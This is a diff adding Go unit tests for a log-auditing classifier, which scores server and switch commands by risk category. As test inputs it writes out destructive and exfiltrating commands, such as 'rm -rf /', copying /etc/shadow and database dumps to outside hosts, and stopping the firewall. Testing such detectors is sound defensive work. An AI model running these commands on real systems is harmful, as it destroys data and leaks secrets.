@@ -0,0 +1,113 @@
+package classify
+
+import (
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+
+	in "logauditer/internal"
+	ll "logauditer/logmining"
+)
+
+func TestClassify(t *testing.T) {
+	rs, err := Load("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	cases := []struct {
+		op, system string
+		categories []string
+		score      int
+	}{
+		{"rm -rf /data", in.SERVER, []string{FILE_DELETE}, 60},
+		{"cd /tmp; rm a.log", in.SERVER, []string{FILE_DELETE}, 30},
+		{"sudo -i", in.SERVER, []string{PRIVILEGE_ESCALATION}, 50},
+		{"chmod 4755 /bin/x", in.SERVER, []string{PRIVILEGE_ESCALATION}, 50},
+		{"chmod u+s /bin/x", in.SERVER, []string{PRIVILEGE_ESCALATION}, 50},
+		{"scp db.sql root@8.8.8.8:/tmp", in.SERVER, []string{DATA_EXFILTRATION}, 70},
+		{"curl -T db.sql https://example.com/up", in.SERVER, []string{DATA_EXFILTRATION}, 70},
+		{"yum -y install nmap", in.SERVER, []string{PACKAGE_INSTALL}, 30},
+		{"rpm -ivh x.rpm", in.SERVER, []string{PACKAGE_INSTALL}, 30},
+		{"systemctl stop firewalld", in.SERVER, []string{SERVICE_STOP}, 40},
+		{"vim /etc/ssh/sshd_config", in.SERVER, []string{CONFIG_CHANGE}, 30},
+		{"delete flash:/vrpcfg.zip", in.SWITCH, []string{FILE_DELETE}, 60},
+		{"system-view", in.SWITCH, []string{CONFIG_CHANGE}, 40},
+		// 多个分类累加, 不超过上限
+		{"sudo rm -rf /; scp /etc/shadow a@8.8.8.8:", in.SERVER, []string{DATA_EXFILTRATION, FILE_DELETE, PRIVILEGE_ESCALATION}, 100},
+		{"sudo systemctl stop sshd", in.SERVER, []string{PRIVILEGE_ESCALATION, SERVICE_STOP}, 90},
+
+		{"ls -l /tmp", in.SERVER, nil, 0},
+		{"cat /etc/passwd.bak", in.SERVER, nil, 0},
+		{"chmod 644 a.log", in.SERVER, nil, 0},
+		{"yum list installed", in.SERVER, nil, 0},
+		{"firmware /tmp", in.SERVER, nil, 0},
+		// 内部地址与本机不算外传
+		{"scp db.sql root@10.0.0.2:/tmp", in.SERVER, nil, 0},
+		{"curl http://localhost:8080/health", in.SERVER, nil, 0},
+		{"rsync -a /data 192.168.1.2:/backup", in.SERVER, nil, 0},
+		// 交换机规则不作用于服务器
+		{"system-view", in.SERVER, nil, 0},
+		{"delete flash:/vrpcfg.zip", in.SERVER, nil, 0},
+	}
+	for _, c := range cases {
+		categories, score := rs.Classify(&in.AuditLog{Operation: c.op, SystemType: c.system})
+		if !reflect.DeepEqual(categories, c.categories) || score != c.score {
+			t.Errorf("Classify(%s, %s) = %v %d, want %v %d", c.op, c.system, categories, score, c.categories, c.score)
+		}
+	}
+}
+
+func TestFilter(t *testing.T) {
+	rs, err := Load("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := &ll.Entry{Log: &in.AuditLog{Operation: "rm -rf /", SystemType: in.SERVER}}
+	if err := rs.Filter(e); err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(e.Log.Categories, []string{FILE_DELETE}) || e.Log.RiskScore != 60 {
+		t.Errorf("log %+v", e.Log)
+	}
+}
+
+func TestLoad(t *testing.T) {
+	dir, err := ioutil.TempDir("", "classify")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+
+	cases := []struct {
+		data string
+		err  bool
+	}{
+		{`{"internalNets": ["10.0.0.0/8"], "rules": [{"category": "x", "pattern": "^drop\\s", "score": 90}]}`, false},
+		{`{"internalNets": ["10.0.0.0/33"], "rules": []}`, true},
+		{`{"rules": [{"pattern": "x", "score": 10}]}`, true},
+		{`{"rules": [{"category": "x", "pattern": "(", "score": 10}]}`, true},
+		{`{"rules": `, true},
+	}
+	for i, c := range cases {
+		fn := filepath.Join(dir, "rules.json")
+		if err := ioutil.WriteFile(fn, []byte(c.data), 0644); err != nil {
+			t.Fatal(err)
+		}
+		rs, err := Load(fn)
+		if (err != nil) != c.err {
+			t.Errorf("#%d Load err %v, want error %v", i, err, c.err)
+			continue
+		}
+		if err != nil {
+			continue
+		}
+		if categories, score := rs.Classify(&in.AuditLog{Operation: "drop table"}); !reflect.DeepEqual(categories, []string{"x"}) || score != 90 {
+			t.Errorf("#%d Classify = %v %d", i, categories, score)
+		}
+	}
+	if _, err := Load(filepath.Join(dir, "missing.json")); err == nil {
+		t.Error("expect error for missing file")
+	}
+}